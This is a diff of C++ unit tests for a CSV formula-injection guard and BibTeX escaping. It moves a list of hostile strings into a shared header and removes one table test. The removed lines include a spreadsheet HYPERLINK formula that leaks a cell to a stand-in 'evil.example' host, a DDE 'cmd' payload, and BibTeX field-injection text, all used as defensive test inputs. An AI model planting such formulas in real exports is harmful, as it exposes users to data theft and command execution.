@@ -13,41 +13,10 @@ namespace {
 
 using test_support::bibtex_round_trip_error;
 using test_support::hits_csv_round_trip_error;
+using test_support::kHostile;
 using test_support::parse_bibtex;
 using test_support::parse_csv;
 using test_support::split_bibtex_names;
-using test_support::table_csv_round_trip_error;
-
-// Texts a hostile source could hold: formulas, quotes, separators, line breaks, TeX.
-const std::vector<std::string> kHostile = {
-    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
-    "+1+2",
-    "-2+3",
-    "@SUM(A1:A9)",
-    "\tTAB",
-    "\rCR",
-    "'=already guarded?",
-    "''+twice",
-    "-",
-    "=",
-    "'",
-    "-3000",
-    "+0.093",
-    "-1.5e-3",
-    "12.5%",
-    "a,b",
-    "say \"hi\"",
-    "two\nlines",
-    "crlf\r\nline",
-    "}, title = {Injected title}",
-    "{unbalanced",
-    "back\\slash \\end{document}",
-    "100% & $5 #1 a_b ^ ~ < >",
-    "Smith and Jones",
-    "AND",
-    "others",
-    "Toğızqumalaq, Тоғызқұмалақ",
-    ""};
 
 // "Neutralise text cells beginning with =, +, -, @, tab or carriage return the way
 // spreadsheet-safe CSV writers do (numbers, including negative values and BCE years, stay
@@ -66,14 +35,6 @@ TEST(CsvGuard, TextThatWouldRunAsAFormulaGetsAnApostropheNumbersStayNumbers) {
   // Reversible: a text that would read back as a guarded one is guarded too.
   EXPECT_EQ(csv_guard("'=x"), "''=x");
   for (const std::string& text : kHostile) EXPECT_EQ(csv_unguard(csv_guard(text)), text) << text;
-}
-
-TEST(CsvGuard, EveryTableCsvReadsBackAsItsTextWithNoFormula) {
-  const std::vector<std::vector<std::string>> rows = {
-      {kHostile.begin(), kHostile.begin() + 14}, {kHostile.begin() + 14, kHostile.begin() + 28}};
-  std::vector<std::string> header;
-  for (size_t i = 0; i < 14; ++i) header.push_back(i == 0 ? "=cmd|' /C calc'!A0" : kHostile[i]);
-  EXPECT_EQ(table_csv_round_trip_error(header, rows), "");
 }
 
 // "Evidence text beginning with = (=HYPERLINK(...)) reaches evidence search --format csv as a cell
